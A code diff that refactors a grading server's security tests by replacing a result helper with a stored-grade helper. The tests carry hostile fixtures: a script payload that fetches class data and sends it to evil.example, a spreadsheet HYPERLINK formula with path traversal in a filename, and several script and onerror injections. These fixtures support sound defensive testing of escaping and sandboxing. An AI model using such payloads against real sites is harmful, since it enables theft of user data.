@@ -141,14 +141,17 @@ def csrf_of(server: Attacked, token: str) -> str:
     return re.search(r'name="csrf" value="([0-9a-f]+)"', page.text).group(1)
 
 
-def result_json(status: str = "compile_error") -> str:
-    """A real result.json document (as a worker stores it) of a grade that did not build."""
+def stored_grade(report_html: str = "", status: str = "compile_error"):
+    """A real result.json text (as a worker stores it) of a grade that did not build, as the store takes
+    it (serve/grades.StoredGrade), with report_html for its report."""
     from grader import __version__
     from grader.core.results import Result
     from grader.report.files import render_json
+    from grader.serve.grades import StoredGrade
 
-    return render_json(Result(exercise=EXERCISE, submission={"path": "k.cu", "sha256": "0" * 64}, backend="emulator",
+    text = render_json(Result(exercise=EXERCISE, submission={"path": "k.cu", "sha256": "0" * 64}, backend="emulator",
                               status=status, grader_version=__version__, message="error: expected ';'"))
+    return StoredGrade(text, "", report_html, status, None, None, None)
 
 
 def issue(folder: Path, *students: str) -> dict[str, str]:
@@ -461,8 +464,7 @@ def test_html_and_script_in_identifiers_filenames_and_aliases_are_escaped(tmp_pa
         api_upload(server, people["plain"], filename="<script>alert(4)</script>.cu")
         store = server.store()
         store.claim_wave()
-        store.finish(got.json()["id"], result=result_json(),
-                     report_md="", report_html="<p>r</p>")
+        store.finish(got.json()["id"], stored_grade("<p>r</p>"))
         store.close()
         pages = [req(server, "GET", "/", cookie=f"grader_session={people['@instructor']}"),
                  req(server, "GET", "/students/" + urllib.parse.quote(HOSTILE, safe=""), token=people["@instructor"]),
@@ -538,8 +540,7 @@ def test_a_served_report_runs_no_script_in_the_servers_origin(course):
         store.claim_wave()
     hostile = ('<pre>// </script><script>fetch("/api/class").then(r => r.text()).then(t => '
                'location = "https://evil.example/?" + t)</script><img src=x onerror="alert(1)"></pre>')
-    assert store.finish(aid, result=result_json(), report_md="",
-                        report_html=hostile)
+    assert store.finish(aid, stored_grade(hostile))
     store.close()
     got = req(server, "GET", f"/submissions/{aid}/report", cookie=f"grader_session={people['quiet']}")
     assert got.status == 200
@@ -561,7 +562,7 @@ def test_the_export_writes_no_formula_and_no_path_a_student_chose(tmp_path):
     store.issue("ann")
     got = store.accept("ann", clean_name('../../=HYPERLINK("http://evil.example/"&A1).cu'), SRC, Rules())
     store.claim_wave()
-    store.finish(got.id, result=result_json(), report_md="", report_html="<p>r</p>")
+    store.finish(got.id, stored_grade("<p>r</p>"))
     store.close()
     out = tmp_path / "out"
     export_class(tmp_path, out=out)
@@ -736,7 +737,7 @@ def test_a_flooding_student_delays_another_by_at_most_one_wave(tmp_path):
         store.accept("flood", "k.cu", SRC + f"//again{i}".encode(), Rules(), now=1200.0 + i)
     calm = store.accept("calm", "k.cu", SRC, Rules(), now=1300.0)
     assert calm.place == 1                                          # never served: first in line
-    store.finish(first[0].id, result=result_json(), report_md="", report_html="")
+    store.finish(first[0].id, stored_grade())
     wave = store.claim_wave(now=1400.0)
     assert [c.student for c in wave][0] == "calm" and len(wave) == 2    # calm first, the flood's one beside it
     queued = [r for r in store.attempts("flood") if r["state"] == QUEUED]
@@ -766,7 +767,7 @@ def test_an_upload_cut_short_by_a_restart_or_a_retry_is_graded_before_the_newer_
     assert third.replaced == (newer.id,) and again.upload(old.id)["state"] == QUEUED
     (retried,) = again.claim_wave(now=6.0)
     assert retried.id == old.id and retried.tries == 2
-    assert again.finish(old.id, result=json.dumps({"status": "graded", "correct": True}), report_md="", report_html="")
+    assert again.finish(old.id, stored_grade(status="graded"))
     assert [c.id for c in again.claim_wave(now=7.0)] == [third.id]
     kinds = [(e["kind"], json.loads(e["data"]).get("state")) for e in again.events(upload=old.id)]
     assert kinds.count(("done", "graded")) + kinds.count(("done", DONE)) == 1 and ("done", REPLACED) not in kinds
@@ -898,7 +899,7 @@ def test_in_chromium_another_site_on_the_same_host_can_neither_sign_in_nor_submi
         aid = api_upload(server, people["ann"]).json()["id"]
         store = server.store()
         store.claim_wave()
-        store.finish(aid, result=result_json(), report_md="", report_html=(
+        store.finish(aid, stored_grade(
             "<pre>// </script><script>location = '/pwned-by-script'</script>"
             "<img src=x onerror=\"location = '/pwned-by-handler'\"></pre>"))
         store.close()
